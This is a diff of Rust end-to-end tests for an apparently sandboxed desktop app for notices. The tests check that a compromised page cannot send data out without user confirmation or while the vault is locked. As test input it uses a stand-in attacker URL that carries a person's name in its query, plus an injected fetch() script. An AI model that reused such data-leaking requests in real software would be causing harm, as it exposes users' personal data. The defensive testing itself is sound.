@@ -36,6 +36,15 @@ async fn claims(app: &App) {
     app.look("request-answered").await;
 }
 
+/// Writes the bundle, after the system showed where to and was told yes.
+async fn export(app: &App, home: &Home) {
+    home.will_save(&home.path("saved/case.zip"));
+    home.will_confirm();
+    app.click("[data-test=deed-export] button").await;
+    app.reads("The bundle is written.").await;
+    assert!(home.asked().contains("case.zip"), "the place of a bundle is shown before it is written");
+}
+
 /// The whole way on one notice: compose on one day, come back three days later, record, store, export.
 async fn whole_journey(home: &Home, notice: &Path, letter_language: &str, expected: &[&str]) {
     let app = App::start(home, "2026-11-23", "en").await;
@@ -93,9 +102,7 @@ async fn whole_journey(home: &Home, notice: &Path, letter_language: &str, expect
     assert_eq!(home.saved("saved/again.eml").await, answer);
 
     app.press("Archive").await;
-    home.will_save(&home.path("saved/case.zip"));
-    app.click("[data-test=deed-export] button").await;
-    app.reads("The bundle is written.").await;
+    export(&app, home).await;
     app.click("[data-test=deed-check] button").await;
     app.reads("Everything is in order.").await;
     app.look("archive").await;
@@ -196,6 +203,44 @@ async fn the_window_in_french_and_locked() {
     app.close(&home).await;
 }
 
+/// A page that was subverted cannot send anything to the web, whatever it calls: only the user's yes lets an address out.
+async fn sends_nothing(app: &App, home: &Home) {
+    let source = json!({ "source": { "url": "https://evil.example/?q=M%C3%BCller" } });
+    // A command that reads no notice asks for no page, and takes no such member.
+    let answer = answer_to(app, "person_list", source.clone()).await;
+    assert_eq!(answer["error"]["code"], "bad_input", "{answer}");
+    assert_eq!(home.asked(), "");
+    let answer = answer_to(app, "notice_read", source.clone()).await;
+    assert_eq!(answer["error"]["code"], "cancelled", "{answer}");
+    let asked = home.asked();
+    assert!(asked.contains("evil.example") && asked.contains("/?q=M%C3%BCller"), "{asked}");
+    let long = json!({ "source": { "url": format!("https://evil.example/{}", "x".repeat(500)) } });
+    let answer = answer_to(app, "notice_read", long).await;
+    assert_eq!(answer["error"]["code"], "bad_input", "{answer}");
+    assert_eq!(home.asked(), "", "an address that no dialog shows whole is not asked about");
+    // Nor while the vault is locked, where nobody is even asked.
+    home.will_confirm();
+    let answer = answer_to(app, "vault_lock", json!(null)).await;
+    assert!(answer["error"].is_null(), "{answer}");
+    for (name, payload) in [
+        ("notice_read", source),
+        ("notice_read", json!({ "source": { "text": "A notice." } })),
+        ("dialog_open", json!({ "purpose": "notice", "multiple": false })),
+        ("dialog_save", json!({ "suggested": "x" })),
+        ("dropped_files", json!(null)),
+        ("diagnostics_save", json!({ "out": { "handle": 1 } })),
+        ("identity_picture", json!({ "picture": { "handle": 1 } })),
+        ("bundle_verify", json!({ "file": { "handle": 1 } })),
+    ] {
+        let answer = answer_to(app, name, payload).await;
+        assert_eq!(answer["error"]["code"], "locked", "{name}: {answer}");
+    }
+    assert_eq!(home.asked(), "");
+    std::fs::remove_file(home.path("dialogs/confirm")).unwrap();
+    let answer = answer_to(app, "vault_open", json!({ "passphrase": PASSPHRASE })).await;
+    assert!(answer["error"].is_null(), "{answer}");
+}
+
 /// The page cannot read files, follow links or run what is not its own.
 #[tokio::test(flavor = "multi_thread")]
 async fn the_page_is_shut_in() {
@@ -209,6 +254,7 @@ async fn the_page_is_shut_in() {
     assert!(answer["error"]["message"].as_str().unwrap().contains("not chosen in a dialog"), "{answer}");
     let answer = answer_to(&app, "bundle_export", json!({ "requests": [], "out": { "handle": 7 } })).await;
     assert!(answer["error"]["code"].is_string(), "{answer}");
+    sends_nothing(&app, &home).await;
     let fetched = "const done = arguments[arguments.length - 1];\
                    fetch('https://example.org/').then(() => done('reached'), () => done('blocked'));";
     assert_eq!(app.script_async(fetched).await, "blocked");
